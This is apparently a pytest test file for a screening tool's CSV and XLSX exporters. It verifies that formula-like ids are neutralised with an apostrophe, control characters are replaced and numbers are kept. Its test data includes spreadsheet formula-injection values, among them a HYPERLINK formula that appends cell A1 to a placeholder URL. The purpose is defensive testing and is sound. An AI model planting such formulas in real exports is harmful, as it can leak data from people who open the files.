"""screening.exports: the one cell rule (no formula, no control character, numbers as they
are) and its writers, and the batch commands (`wellbeing score`, `wellbeing vision
classify`, `wellbeing fitness score`) writing through it: an id that looks like a formula
is written neutralised, and every other column is what it was."""

from __future__ import annotations

import csv
import io
import re
import time
from datetime import date, datetime
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

from screening import exports
from screening.batch import ScoredBlock, ScoredTable, write_csv, write_xlsx
from screening.instruments import resolve
from screening.scoring import score_matrix
from wellbeing.health_cli import fitness_group, vision_group
from wellbeing.instruments_cli import score_command

# What a spreadsheet runs as a formula, by the test's own reading: a first character of
# = + - @ tab CR, or = + - @ (or full-width) after blanks; a plain decimal number is a
# number, not a formula.
OPERATORS = "=+-@＝＋－＠"
DECIMAL = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", re.ASCII)
FORMULA_NAMES = ["=1+1", '=HYPERLINK("http://x"&A1,"y")', "+1", "-1+A1", "@SUM(A1)"]
NAMES = [*FORMULA_NAMES, "\tx", "\rx"]
CONTROL_NAME = "张\x00三\x1b四\x07"


def runs_as_formula(value: str) -> bool:
    if DECIMAL.fullmatch(value):
        return False
    return value[:1] in ("\t", "\r") or value.lstrip()[:1] in tuple(OPERATORS)


SHEET = Workbook().active


def as_read(text: str) -> str:
    """What XLSX reads back: XML turns CR LF, and a lone CR, into LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def xlsx_cell_type(value: Any) -> str:
    """The data type openpyxl gives the value (raises on characters XML cannot hold)."""
    return Cell(SHEET, value=value).data_type


# ----------------------------------------------------------------------------- the rule


@given(st.one_of(st.integers(), st.floats(), st.decimals(), st.booleans(), st.none()))
def test_numbers_booleans_and_empty_cells_are_unchanged(value: Any) -> None:
    assert exports.cell(value) is value


@given(st.one_of(st.dates(), st.datetimes()))
def test_dates_are_unchanged(value: date | datetime) -> None:
    assert exports.cell(value) is value


@given(
    st.one_of(
        st.integers().map(str),
        st.floats(allow_nan=False, allow_infinity=False).map(repr),
        st.floats(allow_nan=False, allow_infinity=False).map(lambda v: f"{v:.2f}"),
    )
)
def test_a_text_that_is_exactly_a_number_is_unchanged(value: str) -> None:
    assert exports.cell(value) == value


@given(st.text(alphabet=st.characters(codec="utf-8")) | st.text())
def test_no_text_runs_as_a_formula_or_holds_a_character_xlsx_refuses(value: str) -> None:
    safe = exports.cell(value)
    assert isinstance(safe, str)
    assert not runs_as_formula(safe)
    assert ILLEGAL_CHARACTERS_RE.search(safe) is None
    assert not re.search("[\ud800-\udfff\ufffe\uffff\x7f-\x9f]", safe)
    assert xlsx_cell_type(safe) == "s"
    assert exports.cell(safe) == safe  # applying the rule twice changes nothing more


@given(
    st.sampled_from([*OPERATORS, "\t", "\r", " =", "\u3000+", "\n-"]),
    st.text(
        alphabet=st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff")
    ),
)
def test_a_formula_gets_one_leading_apostrophe(start: str, rest: str) -> None:
    value = start + rest
    if DECIMAL.fullmatch(value):  # "-5": a number
        return
    assert exports.cell(value) == "'" + value


@given(
    st.text(
        alphabet=st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff")
    )
)
def test_plain_text_is_unchanged(value: str) -> None:
    if value.lstrip()[:1] in tuple(OPERATORS):
        return
    assert exports.cell(value) == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("张\x00三\x1b四\x07", "张\ufffd三\ufffd四\ufffd"),
        ("\x1b[31m红", "\ufffd[31m红"),
        ("a\x7fb\x85c\x9b", "a\ufffdb\ufffdc\ufffd"),
        ("\x00=1+1", "\ufffd=1+1"),
        ("多行\n文本\t保留", "多行\n文本\t保留"),
        ("=1+1\x07", "'=1+1\ufffd"),
    ],
)
def test_control_characters_become_the_replacement_character(value: str, expected: str) -> None:
    assert exports.cell(value) == expected


@given(
    st.one_of(
        st.text(),
        st.binary(),
        st.integers(),
        st.floats(),
        st.none(),
        st.lists(st.text(), max_size=3),
        st.dictionaries(st.text(max_size=3), st.integers(), max_size=2),
        st.builds(object),
    )
)
def test_the_rule_never_raises(value: Any) -> None:
    safe = exports.cell(value)
    if isinstance(safe, str):
        assert not runs_as_formula(safe)


@given(st.lists(st.one_of(st.text(), st.text(alphabet="=+-@ \t\r\n1.eE"), st.integers())))
def test_a_column_is_the_rule_applied_to_each_value(values: list[Any]) -> None:
    assert exports.column(values) == [exports.cell(value) for value in values]


def test_a_column_of_empty_or_blank_values_is_one_linear_pass() -> None:
    """A big batch file's empty columns (total, invalid_reasons): quadratic before."""
    started = time.perf_counter()
    for values in ([""] * 200_000, [" "] * 200_000, ["\n"] * 200_000):
        assert exports.column(values) == values
    assert time.perf_counter() - started < 5
    assert exports.column(["", "\n =x", ""]) == ["", "'\n =x", ""]


def test_lazy_and_other_objects_are_written_as_their_text() -> None:
    class Label:
        def __str__(self) -> str:
            return "=label"

    assert exports.cell(Label()) == "'=label"
    formatted = exports.cell(exports.Formatted("-1+A1", "@"))
    assert formatted == exports.Formatted("'-1+A1", "@")


# ----------------------------------------------------------------------------- writers


ROWS = [
    ["name", "value", "note"],
    *[[name, -1.25, "正常"] for name in NAMES],
    [CONTROL_NAME, 3, "-2"],
]


def test_csv_cells_are_neutralised_and_numbers_printed_as_before() -> None:
    data = exports.csv_bytes(ROWS)
    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [row[0] for row in parsed[1:]] == [*("'" + n for n in NAMES), "张\ufffd三\ufffd四\ufffd"]
    assert [row[1] for row in parsed[1:]] == ["-1.25"] * len(NAMES) + ["3"]
    assert parsed[-1][2] == "-2"
    assert exports.csv_bytes([["a"]], bom=False, lineterminator="\n") == b"a\n"


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_csv_row_reads_back_as_the_rule_wrote_it(row: list[str]) -> None:
    data = exports.csv_bytes([row])
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed == [[exports.cell(value) for value in row]]


@settings(max_examples=50, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=4))
@example(["a\r\nb", "\r\n=x", "=1+1"])
def test_an_xlsx_row_reads_back_as_text_never_a_formula(row: list[str]) -> None:
    sheet = load_workbook(io.BytesIO(exports.xlsx_bytes([exports.Sheet("x", [row])]))).active
    cells = next(sheet.iter_rows(), ())
    assert all(c.data_type != "f" for c in cells)
    written = [c.value for c in cells] + [None] * (len(row) - len(cells))
    assert written == [as_read(exports.cell(v)) or None for v in row]


def test_csv_chunks_split_a_big_file_without_changing_it() -> None:
    rows = [[f"=A{i}", i] for i in range(2000)]
    chunks = list(exports.csv_chunks(rows, chunk_chars=1000))
    assert len(chunks) > 10
    assert "".join(chunks) == exports.csv_bytes(rows, bom=False).decode()


def test_xlsx_cells_are_text_never_formulas_and_numbers_stay_numbers(tmp_path: Path) -> None:
    book = exports.Book()
    sheet = book.create_sheet("名单", widths=[20])
    for row in ROWS:
        sheet.append(row)
    sheet.append([exports.Formatted("01", "@"), exports.Formatted(0.4, "0.0%")])
    streamed = exports.Sheet("streamed", (row for row in ROWS))
    exports.write_xlsx(tmp_path / "out.xlsx", [*book.sheets, streamed])
    workbook = load_workbook(tmp_path / "out.xlsx")
    assert workbook.sheetnames == ["名单", "streamed"]
    for worksheet in workbook:
        for row in worksheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
    names = [row[0].value for row in workbook["名单"].iter_rows(min_row=2, max_row=len(ROWS))]
    expected = [as_read(exports.cell(name)) for name in [*NAMES, CONTROL_NAME]]
    assert names == expected
    value = workbook["名单"]["B2"]
    assert (value.value, value.data_type) == (-1.25, "n")
    assert workbook["名单"]["C9"].value == "-2"
    text, rate = workbook["名单"]["A10"], workbook["名单"]["B10"]
    assert (text.value, text.number_format, rate.number_format) == ("01", "@", "0.0%")
    assert workbook["名单"].column_dimensions["A"].width == 20
    assert exports.xlsx_bytes([exports.Sheet("x", [["=1"]])]).startswith(b"PK")


def test_a_streamed_sheet_cannot_be_appended_to() -> None:
    with pytest.raises(TypeError):
        exports.Sheet("x", iter([])).append(["a"])


# ----------------------------------------------------------------------------- batch writers


def _scored(ids: list[str]) -> ScoredTable:
    phq9 = resolve("phq9")
    answers = np.ones((len(ids), len(phq9.items)))
    block = ScoredBlock(np.array(ids, dtype=object), score_matrix(phq9, answers))
    return ScoredTable(phq9, (block,))


def test_batch_writers_never_fail_on_control_characters(tmp_path: Path) -> None:
    """Ids that input now refuses, written anyway: replaced, never an error."""
    result = _scored([CONTROL_NAME, "=1+1", "ok"])
    handle = io.StringIO()
    write_csv(result, handle)
    ids = [row["respondent_id"] for row in csv.DictReader(io.StringIO(handle.getvalue()))]
    assert ids == ["张\ufffd三\ufffd四\ufffd", "'=1+1", "ok"]
    write_xlsx(result, tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == ids


# ----------------------------------------------------------------------------- commands


def _input(tmp_path: Path, name: str, header: list[str], rows: list[list[str]]) -> Path:
    path = tmp_path / name
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows([header, *rows])
    return path


PHQ = [f"phq9_{i}" for i in range(1, 10)]
VISION = ["student_id", "age", "ucva_right", "ucva_left", "sph_right", "cyl_right"]
VISION += ["sph_left", "cyl_left"]
EYES = ["10", "4.8", "5.0", "-1.0", "-0.5", "0.25", "-0.5"]
FITNESS = ["student_id", "grade", "sex", "height_cm", "weight_kg", "vital_capacity_ml"]
FITNESS += ["run50m_s", "sit_reach_cm", "rope_skip_1min"]
BOY = ["1", "M", "120", "22", "1000", "10.5", "10", "130"]
COMMANDS = {
    "score": (
        score_command,
        ["phq9"],
        ["respondent_id", *PHQ],
        ["1", "2", "0", "3", "1", "1", "0", "2", "1"],
    ),
    "vision": (vision_group, ["classify"], VISION, EYES),
    "fitness": (fitness_group, ["score"], FITNESS, BOY),
}


def _run(which: str, source: Path, *output: Path) -> str:
    command, args, _, _ = COMMANDS[which]
    result = CliRunner().invoke(command, [*args, str(source), *map(str, output)])
    assert result.exit_code == 0, result.stderr
    return result.stdout


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _xlsx_rows(path: Path) -> list[tuple[Any, ...]]:
    sheet = load_workbook(path).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row), "a formula cell"
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize("which", sorted(COMMANDS))
def test_formula_ids_are_neutralised_and_the_other_columns_do_not_drift(
    tmp_path: Path, which: str
) -> None:
    _, _, header, values = COMMANDS[which]
    plain_ids = [f"s{index}" for index in range(len(FORMULA_NAMES))]
    plain = _input(tmp_path, "plain.csv", header, [[i, *values] for i in plain_ids])
    hostile = _input(tmp_path, "hostile.csv", header, [[n, *values] for n in FORMULA_NAMES])
    expected_ids = ["'" + name for name in FORMULA_NAMES]

    plain_out, hostile_out = _csv_rows(_run(which, plain)), _csv_rows(_run(which, hostile))
    assert [row[0] for row in hostile_out[1:]] == expected_ids
    assert [row[1:] for row in hostile_out] == [row[1:] for row in plain_out]
    assert plain_out[0][0] in ("respondent_id", "student_id")

    _run(which, hostile, "-o", tmp_path / "out.csv")
    written = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert _csv_rows(written) == hostile_out

    _run(which, plain, "-o", tmp_path / "plain.xlsx")
    _run(which, hostile, "-o", tmp_path / "hostile.xlsx")
    plain_sheet, hostile_sheet = (
        _xlsx_rows(tmp_path / "plain.xlsx"),
        _xlsx_rows(tmp_path / "hostile.xlsx"),
    )
    assert [row[0] for row in hostile_sheet[1:]] == expected_ids
    assert [row[1:] for row in hostile_sheet] == [row[1:] for row in plain_sheet]


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    _, _, header, values = COMMANDS["vision"]
    source = _input(tmp_path, "in.csv", header, [["-2", *values]])
    row = _csv_rows(_run("vision", source))[1]
    assert row[:3] == ["-2", "-1.25", "0.00"]  # an id that is a number may stay as it is
    _run("vision", source, "-o", tmp_path / "out.xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    se_right = sheet["B2"]
    assert (sheet["A2"].value, se_right.value, se_right.data_type) == ("-2", -1.25, "n")


def test_the_plain_xlsx_writer_reads_back_as_openpyxl_writes_it() -> None:
    rows = [
        ["学籍号", "名字", "number", "rate", "flag", "empty"],
        [exports.Formatted("01", "@"), "=HYPERLINK(1) <b>&", -2, 1.5, True, None],
        [exports.Formatted(0.25, "0.0%"), "\x1bend", float("nan"), 3, False, ""],
    ]
    plain = load_workbook(
        io.BytesIO(exports.plain_xlsx_bytes([exports.Sheet("学生 & <1>", rows, widths=[20])]))
    )
    usual = load_workbook(io.BytesIO(exports.xlsx_bytes([exports.Sheet("x", rows)])))
    sheet, reference = plain.active, usual.active
    assert sheet.title == "学生 & <1>" and sheet.column_dimensions["A"].width == 20
    for got, expected in zip(sheet.iter_rows(), reference.iter_rows(), strict=True):
        assert [c.value for c in got][:5] == [c.value for c in expected][:5]
        assert [c.number_format for c in got] == [c.number_format for c in expected]
        assert [c.data_type for c in got if c.value is not None] == [
            c.data_type for c in expected if c.value is not None
        ]
    assert sheet["B2"].value.startswith("'=") and sheet["B3"].value == "\ufffdend"
